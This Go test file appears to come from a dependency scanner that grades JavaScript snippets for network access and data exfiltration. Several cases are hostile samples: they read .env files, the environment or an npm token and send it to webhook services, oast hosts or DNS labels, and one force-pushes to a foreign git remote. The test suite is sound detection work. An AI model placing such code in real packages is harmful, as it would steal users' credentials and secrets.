package net

import (
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestNetworkAccess(t *testing.T) {
	rt.Check(t, NetworkAccess{}, []rt.Case{
		{"https_request", map[string]string{"index.js": `require("https").request({hostname: "api.example.com"})`}, finding.SeverityLow},
		{"no_network", map[string]string{"index.js": `require("path").join("a", "b")`}, finding.SeverityNone},
		// mail sent over SMTP
		{"nodemailer", map[string]string{"index.js": `const t = require("nodemailer").createTransport({host: "smtp.example.invalid", port: 465}); t.sendMail({to: "x@example.invalid", text: body})`}, finding.SeverityLow},
		// git pushing to a foreign remote moves data
		{"git_push_foreign", map[string]string{"index.js": `require("child_process").execFileSync("git", ["push", "-f", "https://git.example.invalid/drop/loot.git", "HEAD:refs/heads/x"])`}, finding.SeverityLow},
		// git reading the project's own history talks to nobody
		{"git_log", map[string]string{"index.js": `require("child_process").execFileSync("git", ["log", "-1", "--format=%H"])`}, finding.SeverityNone},
	})
}

func TestExfilService(t *testing.T) {
	rt.Check(t, ExfilService{}, []rt.Case{
		{"pipedream", map[string]string{"index.js": `https.request({ hostname: "abc.m.pipedream.net", method: "POST" })`}, finding.SeverityHigh},
		// a request bin in a file that walks the directories for .env files
		{"request_bin_reads_files", map[string]string{"index.js": "const fs = require(\"fs\"); const ENDPOINT = \"https://webhook.site/3f9c2a71\"; const files = fs.readdirSync(dir).filter(n => /^\\.env/.test(n)).map(n => fs.readFileSync(n, \"utf8\")); post(ENDPOINT, files)"}, finding.SeverityCritical},
		// an IPFS gateway read (an ENS avatar) is no upload
		{"ipfs_gateway_read", map[string]string{"index.js": `const GATEWAY = "https://gateway.ipfs.io/ipfs/"; exports.avatar = cid => fetch(GATEWAY + cid)`}, finding.SeverityNone},
		{"ipfs_upload_api", map[string]string{"index.js": `fetch("https://ipfs.io/api/v0/add", { method: "POST", body: loot })`}, finding.SeverityHigh},
		{"oast_concat", map[string]string{"index.js": `const h = "x1" + ".oast" + ".fun"; dns.lookup(h)`}, finding.SeverityHigh},
		{"discord_webhook", map[string]string{"index.js": `fetch("https://discord.com/api/webhooks/1/abc", {method:"POST"})`}, finding.SeverityHigh},
		// a bot token in the path of a relayed request with run-time parts
		{"telegram_bot_relay", map[string]string{"index.js": "const k = [\"tg.relay.example.invalid\", \"7001234567:AAFakeFakeFakeFakeFakeFakeFakeFake\"]; function send(t) { require(\"https\").get(`https://${k[0]}/bot${k[1]}/sendMessage?chat_id=1&text=${encodeURIComponent(t)}`) }"}, finding.SeverityHigh},
		// clients of the chat services: the token or hook is their user's
		{"telegram_framework", map[string]string{"index.js": "const API_ROOT = \"https://api.telegram.org\"; class Bot { constructor(token) { this.token = token } call(m, body) { return fetch(`${API_ROOT}/bot${this.token}/${m}`, { method: \"POST\", body }) } }"}, finding.SeverityLow},
		{"slack_notifier", map[string]string{"index.js": `module.exports = (url, text) => { if (!url.startsWith("https://hooks.slack.com/services/")) throw new Error("not a Slack incoming webhook URL"); return fetch(url, { method: "POST", body: JSON.stringify({ text }) }) }`}, finding.SeverityLow},
		{"slack_hook_hardcoded", map[string]string{"index.js": `fetch("https://hooks.slack.com/services/T0AAAAAAA/B0BBBBBBB/cccccccccccccccccccccccc", { method: "POST", body: JSON.stringify({ text: JSON.stringify(process.env) }) })`}, finding.SeverityHigh},
		{"telegram_token_elsewhere", map[string]string{"index.js": "const T = \"7001234567:AAFakeFakeFakeFakeFakeFakeFakeFake\"; const API = \"https://api.telegram.org\"; fetch(`${API}/bot${T}/sendMessage`)"}, finding.SeverityHigh},
		{"webhook_client", map[string]string{"index.js": `const { WebhookClient } = require("discord.js"); new WebhookClient("123", "tok")`}, finding.SeverityHigh},
		{"bare_host_option", map[string]string{"index.js": `require("https").request({ hostname: "webhook.site", path: "/0c9f", method: "POST" })`}, finding.SeverityHigh},
		{"interpolated_command", map[string]string{"index.js": "require(\"child_process\").exec(`curl -d \"${os.hostname()}\" https://abc123.oast.fun`)"}, finding.SeverityHigh},
		{"host_and_path_options", map[string]string{"index.js": `require("https").request({ hostname: "discord.com", path: "/api/webhooks/1/abc", method: "POST" })`}, finding.SeverityHigh},
		{"discord_site_link", map[string]string{"index.js": `require("https").request({ hostname: "discord.com", path: "/api/v10/users/@me" })`}, finding.SeverityNone},
		{"bare_host_in_domain_list", map[string]string{"index.js": `const blocked = ["webhook.site", "pipedream.net"]`}, finding.SeverityNone},
		{"credit_in_text", map[string]string{"index.js": "const cow = \"# via http://pastebin.com/1AZwKrKp\\n$the_cow = <<EOC;\\n $thoughts\\nEOC\\n\""}, finding.SeverityLow},
		{"lookalike_word", map[string]string{"index.js": `const doc = "see https://example.com/webhook.site-guide"; const p = "notpipedream.network"`}, finding.SeverityNone},
	})
}

func TestRawIP(t *testing.T) {
	rt.Check(t, RawIP{}, []rt.Case{
		{"public_ip", map[string]string{"index.js": `http.get("http://203.0.113.7:1224/p")`}, finding.SeverityMedium},
		{"localhost", map[string]string{"index.js": `http.get("http://127.0.0.1:8080/health"); fetch("http://192.168.1.1/")`}, finding.SeverityNone},
		{"discard_prefix", map[string]string{"index.js": `const blocks = ["100::", "::1"]; net.connect(80, "100::")`}, finding.SeverityNone},
		{"version_string", map[string]string{"index.js": `const v = "1.2.3.4"`}, finding.SeverityNone},
		{"public_ipv6", map[string]string{"index.js": `fetch("http://[2a05:d014:1::7]:8080/p")`}, finding.SeverityMedium},
		// a bare address as a request's host or a socket's, where the
		// file makes network calls; a public resolver's is no server's
		{"host_option", map[string]string{"index.js": `const [host, port] = "198.51.100.23:8443".split(":"); require("http").request({ host, port, method: "POST" })`}, finding.SeverityMedium},
		{"socket_address", map[string]string{"index.js": `require("net").connect(4444, "198.51.100.7")`}, finding.SeverityMedium},
		{"host_option_no_request", map[string]string{"test/parse.test.js": `check({ scheme: "http", host: "198.51.100.7" })`}, finding.SeverityNone},
		{"public_resolver", map[string]string{"index.js": `require("dgram").createSocket("udp4").send(q, 53, "8.8.8.8"); require("https").request({ host: "1.1.1.1" })`}, finding.SeverityNone},
		// URL parsers' tests: addresses outside global unicast, reserved IPv4
		{"url_test_addresses", map[string]string{"test/uri.test.js": `check("http://[1080::8:800:200c:417a]/x"); check("http://[3ffe:2a00:100:7031::1]"); check("http://[::2]:80/"); check("http://240.0.0.1/"); check("http://100.64.1.1/")`}, finding.SeverityNone},
	})
}

func TestDNSExfil(t *testing.T) {
	rt.Check(t, DNSExfil{}, []rt.Case{
		// nslookup run for labels of the environment under a constant
		// zone; dig asked for the MX of the domain a user typed
		{"nslookup_labels", map[string]string{"index.js": "const { execFile } = require('child_process'); const hex = Buffer.from(JSON.stringify(Object.entries(process.env))).toString('hex');\n" +
			"hex.match(/.{1,60}/g).forEach((p, i) => execFile('nslookup', [`${p}.${i}.z.example.invalid`]))"}, finding.SeverityCritical},
		{"dig_user_domain", map[string]string{"index.js": "const { execFile } = require('child_process'); const home = process.env.HOME; exports.mx = (domain) => execFile('dig', [`${domain}`, 'MX'])"}, finding.SeverityNone},
		// the dns module loaded by name at run time into an object
		{"hex_labels_module_object", map[string]string{"index.js": "const m = {}; ['dns', 'os'].forEach((n, i) => { m['m' + i] = require(n) }); const h = Buffer.from(m.m1.hostname()).toString('hex'); m.m0.resolve4(`${h}.x.example.invalid`, () => {})"}, finding.SeverityCritical},
		// chunks cut by a helper of the package into labels under a
		// constant domain; a service lookup under the user's domain
		{"labels_under_constant_domain", map[string]string{"index.js": "const dns = require('dns'), cut = require('./cut'); const t = process.env.NPM_TOKEN; cut(t, 'hex').forEach((l, i) => dns.resolve4(`${i}.${l}.d.example.invalid`, () => {}))"}, finding.SeverityCritical},
		{"srv_under_given_domain", map[string]string{"index.js": "const dns = require('dns'); exports.find = (svc, proto, domain) => dns.resolveSrv(`_${svc}._${proto}.${domain}`, () => {}); const h = process.env.HOSTNAME"}, finding.SeverityNone},
		{"hex_labels", map[string]string{"index.js": "const dns=require('dns'),os=require('os');const h=Buffer.from(os.hostname()).toString('hex');dns.resolve4(`${h}.x.example.invalid`,()=>{})"}, finding.SeverityCritical},
		{"own_address", map[string]string{"index.js": "const dns=require('dns'),os=require('os');dns.lookup(os.hostname(),(e,a)=>console.log(a))"}, finding.SeverityNone},
		// a proxy's lookup and a hash far away in the same bundle
		{"unrelated_in_bundle", map[string]string{"index.js": "const dns=require('dns');\nfunction resolveProxy(h){return dns.lookup(h)}\nconst pad0 = 0;\nconst pad1 = 1;\nconst pad2 = 2;\nconst pad3 = 3;\nconst pad4 = 4;\nconst pad5 = 5;\nconst pad6 = 6;\nconst pad7 = 7;\nconst pad8 = 8;\nconst pad9 = 9;\nconst pad10 = 10;\nconst pad11 = 11;\nconst pad12 = 12;\nconst pad13 = 13;\nconst pad14 = 14;\nconst pad15 = 15;\nconst pad16 = 16;\nconst pad17 = 17;\nconst pad18 = 18;\nconst pad19 = 19;\nconst pad20 = 20;\nconst pad21 = 21;\nconst pad22 = 22;\nconst pad23 = 23;\nconst pad24 = 24;\nconst pad25 = 25;\nconst pad26 = 26;\nconst pad27 = 27;\nconst pad28 = 28;\nconst pad29 = 29;\nconst pad30 = 30;\nconst pad31 = 31;\nconst pad32 = 32;\nconst pad33 = 33;\nconst pad34 = 34;\nconst pad35 = 35;\nconst pad36 = 36;\nconst pad37 = 37;\nconst pad38 = 38;\nconst pad39 = 39;\nconst pad40 = 40;\nconst pad41 = 41;\nconst pad42 = 42;\nconst pad43 = 43;\nconst pad44 = 44;\nconst pad45 = 45;\nconst pad46 = 46;\nconst pad47 = 47;\nconst pad48 = 48;\nconst pad49 = 49;\nconst pad50 = 50;\nconst pad51 = 51;\nconst pad52 = 52;\nconst pad53 = 53;\nconst pad54 = 54;\nconst pad55 = 55;\nconst pad56 = 56;\nconst pad57 = 57;\nconst pad58 = 58;\nconst pad59 = 59;\nconst pad60 = 60;\nconst pad61 = 61;\nconst pad62 = 62;\nconst pad63 = 63;\nconst pad64 = 64;\nconst pad65 = 65;\nconst pad66 = 66;\nconst pad67 = 67;\nconst pad68 = 68;\nconst pad69 = 69;\nconst pad70 = 70;\nconst pad71 = 71;\nconst pad72 = 72;\nconst pad73 = 73;\nconst pad74 = 74;\nconst pad75 = 75;\nconst pad76 = 76;\nconst pad77 = 77;\nconst pad78 = 78;\nconst pad79 = 79;\nconst pad80 = 80;\nconst pad81 = 81;\nconst pad82 = 82;\nconst pad83 = 83;\nconst pad84 = 84;\nconst pad85 = 85;\nconst pad86 = 86;\nconst pad87 = 87;\nconst pad88 = 88;\nconst pad89 = 89;\nconst pad90 = 90;\nconst pad91 = 91;\nconst pad92 = 92;\nconst pad93 = 93;\nconst pad94 = 94;\nconst pad95 = 95;\nconst pad96 = 96;\nconst pad97 = 97;\nconst pad98 = 98;\nconst pad99 = 99;\nconst pad100 = 100;\nconst pad101 = 101;\nconst pad102 = 102;\nconst pad103 = 103;\nconst pad104 = 104;\nconst pad105 = 105;\nconst pad106 = 106;\nconst pad107 = 107;\nconst pad108 = 108;\nconst pad109 = 109;\nconst pad110 = 110;\nconst pad111 = 111;\nconst pad112 = 112;\nconst pad113 = 113;\nconst pad114 = 114;\nconst pad115 = 115;\nconst pad116 = 116;\nconst pad117 = 117;\nconst pad118 = 118;\nconst pad119 = 119;\nconst pad120 = 120;\nconst pad121 = 121;\nconst pad122 = 122;\nconst pad123 = 123;\nconst pad124 = 124;\nconst pad125 = 125;\nconst pad126 = 126;\nconst pad127 = 127;\nconst pad128 = 128;\nconst pad129 = 129;\nconst pad130 = 130;\nconst pad131 = 131;\nconst pad132 = 132;\nconst pad133 = 133;\nconst pad134 = 134;\nconst pad135 = 135;\nconst pad136 = 136;\nconst pad137 = 137;\nconst pad138 = 138;\nconst pad139 = 139;\nconst pad140 = 140;\nconst pad141 = 141;\nconst pad142 = 142;\nconst pad143 = 143;\nconst pad144 = 144;\nconst pad145 = 145;\nconst pad146 = 146;\nconst pad147 = 147;\nconst pad148 = 148;\nconst pad149 = 149;\nconst pad150 = 150;\nconst pad151 = 151;\nconst pad152 = 152;\nconst pad153 = 153;\nconst pad154 = 154;\nconst pad155 = 155;\nconst pad156 = 156;\nconst pad157 = 157;\nconst pad158 = 158;\nconst pad159 = 159;\nconst pad160 = 160;\nconst pad161 = 161;\nconst pad162 = 162;\nconst pad163 = 163;\nconst pad164 = 164;\nconst pad165 = 165;\nconst pad166 = 166;\nconst pad167 = 167;\nconst pad168 = 168;\nconst pad169 = 169;\nconst pad170 = 170;\nconst pad171 = 171;\nconst pad172 = 172;\nconst pad173 = 173;\nconst pad174 = 174;\nconst pad175 = 175;\nconst pad176 = 176;\nconst pad177 = 177;\nconst pad178 = 178;\nconst pad179 = 179;\nconst pad180 = 180;\nconst pad181 = 181;\nconst pad182 = 182;\nconst pad183 = 183;\nconst pad184 = 184;\nconst pad185 = 185;\nconst pad186 = 186;\nconst pad187 = 187;\nconst pad188 = 188;\nconst pad189 = 189;\nconst pad190 = 190;\nconst pad191 = 191;\nconst pad192 = 192;\nconst pad193 = 193;\nconst pad194 = 194;\nconst pad195 = 195;\nconst pad196 = 196;\nconst pad197 = 197;\nconst pad198 = 198;\nconst pad199 = 199;\nconst id=require('crypto').createHash('sha1').update(process.env.HOME).digest().toString('hex')"}, finding.SeverityNone},
	})
}
